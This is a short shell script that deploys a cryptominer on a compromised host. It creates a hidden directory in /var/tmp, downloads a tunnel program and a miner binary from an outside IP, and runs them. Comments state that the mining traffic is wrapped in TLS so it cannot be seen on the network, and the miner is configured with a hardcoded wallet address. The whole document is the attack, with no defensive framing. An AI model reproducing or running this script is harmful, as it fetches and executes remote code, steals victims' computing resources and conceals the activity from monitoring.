# A dropped miner connects to a port of its own host. A second dropped program accepts the connection and carries it to
# a pool inside TLS, so that no mining message leaves the host in the clear.
mkdir -p /var/tmp/.t
cd /var/tmp/.t
curl -fsS -o gate http://203.0.113.10/tunnel.py
curl -fsS -o unit http://203.0.113.10/agent
chmod 755 gate unit
./gate 3357 203.0.113.20 8443 14 &
sleep 1
echo "-o stratum+tcp://127.0.0.1:3357 -u 46jVYzGMSjHDhUttqDyERFeME99YPvzw3n5JuB8VXJEvTRhaYkMnvvgVM5v3Jxf3knJdPLisd2i9SWD2rvJGrAs4h8V7hbi -s 12" >unit.conf
./unit -c unit.conf
wait
